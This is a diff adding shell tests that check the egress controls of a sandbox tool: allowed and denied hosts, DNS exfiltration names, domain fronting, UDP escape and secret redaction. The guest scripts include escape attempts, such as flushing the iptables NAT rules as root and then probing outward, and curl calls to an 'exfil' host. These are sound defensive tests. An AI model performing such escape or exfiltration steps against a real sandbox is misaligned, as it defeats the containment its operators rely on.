@@ -1,0 +1,257 @@
+# Egress VM tests (issue 5), sourced by tests/vm/run-all: real curl, getent
+# and python in a real sandbox against test servers of the test's own, with
+# the test's own CA.  The servers listen on 203.0.113.10 (TEST-NET-3) added
+# to the host's loopback device, and /etc/hosts maps the test names there:
+# the proxy refuses names that resolve to loopback or private addresses,
+# and a documentation address on lo is a test host that is neither.  Every
+# address anything connects to is on this machine (run it where the root is
+# throwaway: the helper VM of testbed/run; it edits /etc/hosts and lo).
+#
+# One sandbox boot runs every guest-side check (boots are slow under
+# emulation); the host side then checks what its servers, its DNS logger
+# and the audit log saw.  Needs: WORK, ok, not_ok from run-all, root,
+# openssl and python3 on the host.
+#
+#   EGRESS_KOSA8   the kosa8 binary (default build/kosa8)
+
+eg_k8() { timeout -k 5 600 "${EGRESS_KOSA8:-build/kosa8}" "$@"; }
+# EGRESS_VERBOSE=1: progress on stderr (each step is slow under emulation).
+eg_step() { [ -z "${EGRESS_VERBOSE:-}" ] || echo "  egress: $(date +%T) $*" >&2; }
+
+# The test servers: HTTPS on 203.0.113.10:443 and HTTP on :80.  Each
+# request is logged (Host, X-Api-Key as received) to $1 and answered with
+# "hello from HOST" and the key it got (a server that echoes a secret: the
+# proxy must redact it on the way back).
+eg_write_server() {
+	cat >"$WORK/eg/server.py" <<-'EOF'
+	import http.server, socketserver, ssl, sys, threading
+	log, cert, key = sys.argv[1], sys.argv[2], sys.argv[3]
+	lock = threading.Lock()
+	class H(http.server.BaseHTTPRequestHandler):
+	    def do_GET(self):
+	        host = self.headers.get("Host", "")
+	        k = self.headers.get("X-Api-Key", "-")
+	        with lock, open(log, "a") as f:
+	            f.write("%s %s key=%s\n" % ("https" if self.server.tls else "http", host, k))
+	        body = ("hello from %s\nkey=%s\n" % (host, k)).encode()
+	        self.send_response(200)
+	        self.send_header("Content-Length", str(len(body)))
+	        self.end_headers()
+	        self.wfile.write(body)
+	    def log_message(self, *a):
+	        pass
+	class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
+	    daemon_threads = True
+	    allow_reuse_address = True
+	plain = S(("203.0.113.10", 80), H); plain.tls = False
+	tls = S(("203.0.113.10", 443), H); tls.tls = True
+	ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(cert, key)
+	tls.socket = ctx.wrap_socket(tls.socket, server_side=True)
+	for s in (plain, tls):
+	    threading.Thread(target=s.serve_forever, daemon=True).start()
+	print("ready", flush=True)
+	threading.Event().wait()
+	EOF
+	# Logs every DNS datagram that reaches the host's resolver: none may
+	# carry a name the sandbox was not allowed.
+	cat >"$WORK/eg/dnslog.py" <<-'EOF'
+	import socket, sys
+	s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+	s.bind(("127.0.0.1", 53))
+	print("ready", flush=True)
+	while True:
+	    d, a = s.recvfrom(4096)
+	    with open(sys.argv[1], "ab") as f:
+	        f.write(d + b"\n")
+	EOF
+}
+
+eg_make_ca() {
+	local d=$WORK/eg
+	openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj "/CN=kosa8 egress test CA" \
+		-keyout "$d/ca.key" -out "$d/ca.crt" -addext basicConstraints=critical,CA:true \
+		-addext keyUsage=critical,keyCertSign,cRLSign 2>/dev/null &&
+		openssl req -newkey rsa:2048 -nodes -subj "/CN=allowed.test" -keyout "$d/srv.key" \
+			-out "$d/srv.csr" 2>/dev/null &&
+		printf 'subjectAltName=DNS:allowed.test,DNS:other.test,DNS:secret.test,DNS:plain.test\nextendedKeyUsage=serverAuth\n' >"$d/ext" &&
+		openssl x509 -req -in "$d/srv.csr" -CA "$d/ca.crt" -CAkey "$d/ca.key" -CAcreateserial \
+			-days 2 -extfile "$d/ext" -out "$d/srv.crt" 2>/dev/null
+}
+
+# The guest side: one script, one line "eg: NAME=VALUE" per check.
+eg_write_guest_script() {
+	cat >"$WORK/eg/ws/checks.sh" <<-'EOF'
+	#!/bin/bash
+	ca=/workspace/ca.crt
+	c() { curl -sS --max-time 30 "$@"; }
+	say() { echo "eg: $1=$2"; }
+	say ifaces "$(ls /sys/class/net | sort | paste -sd, -)"
+	say https_allowed "$(c --cacert $ca https://allowed.test/ | head -1)"
+	say http_allowed "$(c http://plain.test/ | head -1)"
+	getent hosts denied.test >/dev/null 2>&1; say getent_denied_rc $?
+	say getent_allowed "$(getent hosts allowed.test | awk '{print $1}')"
+	c http://denied.test/ >/dev/null 2>&1; say curl_denied_rc $?
+	c http://x7f3a9.exfil.denied.test/ >/dev/null 2>&1; say curl_exfil_rc $?
+	c --connect-timeout 10 http://192.0.2.10/ >/dev/null 2>&1; say ip_literal_rc $?
+	c --connect-timeout 10 http://198.18.1.200/ >/dev/null 2>&1; say synthetic_unknown_rc $?
+	c --cacert $ca --connect-to other.test:443:allowed.test:443 https://other.test/ >/dev/null 2>&1
+	say fronting_sni_rc $?
+	c -H 'Host: other.test' http://plain.test/ >/dev/null 2>&1; say fronting_host_rc $?
+	say udp_outside "$(python3 -c '
+	import socket
+	s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
+	s.sendto(b"ping", ("192.0.2.10", 9999))
+	try:
+	    s.recvfrom(100); print("answered")
+	except socket.timeout:
+	    print("nothing")
+	')"
+	say env_key "${API_KEY:-unset}"
+	say secret_bound "$(c -H "X-Api-Key: $API_KEY" https://secret.test/ | tr '\n' ' ')"
+	say secret_other "$(c --cacert $ca -H "X-Api-Key: $API_KEY" https://allowed.test/ | tail -1)"
+	EOF
+	cat >"$WORK/eg/ws/flush.sh" <<-'EOF'
+	#!/bin/bash
+	# As root: undo the redirect, then try to get out anyway.
+	iptables -t nat -F && echo "eg: flushed=yes"
+	curl -sS --max-time 15 --connect-timeout 8 --cacert /workspace/ca.crt https://allowed.test/ >/dev/null 2>&1
+	echo "eg: after_flush_rc=$?"
+	python3 -c '
+	import socket
+	s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
+	s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x04test\x00\x00\x01\x00\x01", ("192.0.2.53", 53))
+	try:
+	    s.recvfrom(512); print("eg: after_flush_dns=answered")
+	except socket.timeout:
+	    print("eg: after_flush_dns=nothing")
+	'
+	EOF
+	chmod +x "$WORK/eg/ws/checks.sh" "$WORK/eg/ws/flush.sh"
+}
+
+eg_field() { sed -n "s/^eg: $1=//p" "$WORK/eg/out" | tr -d '\r' | head -1; }
+
+# eg_expect NAME WANT: the check's value must equal WANT (or match the
+# extended regex WANT when it starts with ~).
+eg_bad=
+eg_expect() {
+	local v
+	v=$(eg_field "$1")
+	if [ "${2:0:1}" = "~" ]; then
+		[[ $v =~ ${2:1} ]] && return
+	elif [ "$v" = "$2" ]; then
+		return
+	fi
+	eg_bad="$eg_bad $1='$v'(want $2)"
+}
+
+test_egress() {
+	local name=egress-curl-dns-fronting-secrets-audit srv dns pids=() placeholder
+	rm -rf "$WORK/eg" && mkdir -p "$WORK/eg/ws"
+	command -v openssl >/dev/null && command -v python3 >/dev/null ||
+		{ not_ok "$name" "openssl and python3 are needed on the host"; return; }
+	eg_make_ca || { not_ok "$name" "could not make the test CA"; return; }
+	cp "$WORK/eg/ca.crt" "$WORK/eg/ws/ca.crt"
+	eg_write_server
+	eg_write_guest_script
+	# Test names on a test address of lo; the host's resolver is our logger.
+	ip addr add 203.0.113.10/32 dev lo 2>/dev/null
+	printf '203.0.113.10 allowed.test other.test secret.test plain.test\n' >>/etc/hosts
+	cp /etc/resolv.conf "$WORK/eg/resolv.conf.saved" 2>/dev/null
+	printf 'nameserver 127.0.0.1\n' >/etc/resolv.conf
+	python3 "$WORK/eg/server.py" "$WORK/eg/requests.log" "$WORK/eg/srv.crt" "$WORK/eg/srv.key" \
+		>"$WORK/eg/server.out" 2>&1 &
+	pids+=($!)
+	python3 "$WORK/eg/dnslog.py" "$WORK/eg/dns.log" >"$WORK/eg/dnslog.out" 2>&1 &
+	pids+=($!)
+	for _ in $(seq 1 50); do
+		grep -q ready "$WORK/eg/server.out" && grep -q ready "$WORK/eg/dnslog.out" && break
+		sleep 0.2
+	done
+	eg_step "servers up, adding the secret"
+	# A secret bound to secret.test, its value never in the guest.
+	printf 's3cr3t-value-42' | eg_k8 secret add API_KEY --host secret.test >"$WORK/eg/out" 2>&1 ||
+		{ not_ok "$name" "kosa8 secret add failed: $(head -1 "$WORK/eg/out")"; kill "${pids[@]}"; return; }
+	eg_step "creating and starting the sandbox"
+	KOSA8_UPSTREAM_CA_FILE=$WORK/eg/ca.crt eg_k8 create --name egress1 --workspace "$WORK/eg/ws" \
+		--allow allowed.test --allow plain.test --allow secret.test --secret API_KEY \
+		>"$WORK/eg/out" 2>&1 &&
+		KOSA8_UPSTREAM_CA_FILE=$WORK/eg/ca.crt eg_k8 start egress1 >>"$WORK/eg/out" 2>&1 ||
+		{ not_ok "$name" "create/start failed: $(tail -1 "$WORK/eg/out")"; eg_k8 rm -f egress1; kill "${pids[@]}"; return; }
+	eg_step "sandbox started; guest checks"
+	eg_k8 exec egress1 -- /workspace/checks.sh >"$WORK/eg/out" 2>&1 </dev/null
+	eg_step "guest checks done; flushing the guest's rules"
+	eg_k8 exec -u root egress1 -- /workspace/flush.sh >>"$WORK/eg/out" 2>&1 </dev/null
+	eg_step "stopping"
+	eg_k8 stop egress1 >/dev/null 2>&1
+	eg_k8 audit show --sandbox egress1 >"$WORK/eg/audit" 2>&1
+	cp "${KOSA8_STATE_DIR:-${XDG_STATE_HOME:-$HOME/.local/state}/kosa8}"/sandboxes/egress1/*.log "$WORK/eg/" 2>/dev/null
+	eg_k8 rm -f egress1 >/dev/null 2>&1
+	kill "${pids[@]}" 2>/dev/null
+	wait "${pids[@]}" 2>/dev/null
+	cp "$WORK/eg/resolv.conf.saved" /etc/resolv.conf 2>/dev/null
+	ip addr del 203.0.113.10/32 dev lo 2>/dev/null
+
+	eg_bad=
+	eg_expect ifaces "kosa8-void,lo"
+	eg_expect https_allowed "hello from allowed.test"
+	eg_expect http_allowed "hello from plain.test"
+	eg_expect getent_denied_rc 2
+	eg_expect getent_allowed "~^198\.1[89]\."
+	eg_expect curl_denied_rc 6
+	eg_expect curl_exfil_rc 6
+	eg_expect ip_literal_rc "~^(7|52|56|28)$"
+	eg_expect synthetic_unknown_rc "~^(7|52|56|28)$"
+	eg_expect fronting_sni_rc "~^(35|52|56)$"
+	eg_expect fronting_host_rc "~^(52|56)$"
+	eg_expect udp_outside nothing
+	eg_expect env_key "~^k8s-placeholder-API_KEY-"
+	placeholder=$(eg_field env_key)
+	# The server echoed the real value; the guest must see the placeholder.
+	eg_expect secret_bound "hello from secret.test key=$placeholder "
+	eg_expect secret_other "key=$placeholder"
+	eg_expect flushed yes
+	eg_expect after_flush_rc "~^(7|28)$"
+	eg_expect after_flush_dns nothing
+	grep -q "^https secret.test key=s3cr3t-value-42$" "$WORK/eg/requests.log" ||
+		eg_bad="$eg_bad upstream-did-not-get-the-secret"
+	grep -q "^https allowed.test key=$placeholder$" "$WORK/eg/requests.log" ||
+		eg_bad="$eg_bad placeholder-to-other-host-changed"
+	grep -q "other.test" "$WORK/eg/requests.log" && eg_bad="$eg_bad fronted-request-reached-a-server"
+	grep -q "s3cr3t-value-42" "$WORK/eg/out" && eg_bad="$eg_bad secret-value-seen-in-guest"
+	grep -qa "denied" "$WORK/eg/dns.log" 2>/dev/null && eg_bad="$eg_bad denied-name-query-left-the-host"
+	grep -qa "exfil" "$WORK/eg/dns.log" 2>/dev/null && eg_bad="$eg_bad exfil-query-left-the-host"
+	for t in net.dns net.connect secret.use; do
+		grep -q "$t" "$WORK/eg/audit" || eg_bad="$eg_bad no-$t-audit-record"
+	done
+	grep -q "s3cr3t-value-42" "$WORK/eg/audit" && eg_bad="$eg_bad secret-value-in-audit-log"
+	if [ -n "$eg_bad" ]; then
+		cp "$WORK/eg/out" "$WORK/out"
+		{
+			echo "--- requests.log"; cat "$WORK/eg/requests.log"
+			echo "--- audit (net)"; grep -E "net\.|secret" "$WORK/eg/audit" | tail -20
+			echo "--- supervisor.log"; tail -15 "$WORK/eg/supervisor.log"
+		} >>"$WORK/out" 2>/dev/null
+		not_ok "$name" "$eg_bad"
+		return
+	fi
+	ok "$name"
+}
+
+# A policy file with an error stops the sandbox at create (and at start, if
+# the user defaults break later), with the file, line and reason.
+test_egress_bad_policy() {
+	local name=egress-bad-policy-refused-with-line
+	mkdir -p "$WORK/eg"
+	printf 'allow good.test\nallow *.\n' >"$WORK/eg/bad.policy"
+	eg_k8 create --name egbad --policy "$WORK/eg/bad.policy" >"$WORK/out" 2>&1
+	rc=$?
+	if [ "$rc" -eq 0 ] || ! grep -q "bad.policy line 2" "$WORK/out"; then
+		not_ok "$name" "rc=$rc, want a refusal naming bad.policy line 2"
+		eg_k8 rm -f egbad >/dev/null 2>&1
+		return
+	fi
+	eg_k8 create --name egbad --allow 'not a host' >"$WORK/out" 2>&1 && {
+		not_ok "$name" "--allow 'not a host' was accepted"; eg_k8 rm -f egbad >/dev/null 2>&1; return; }
+	ok "$name"
+}
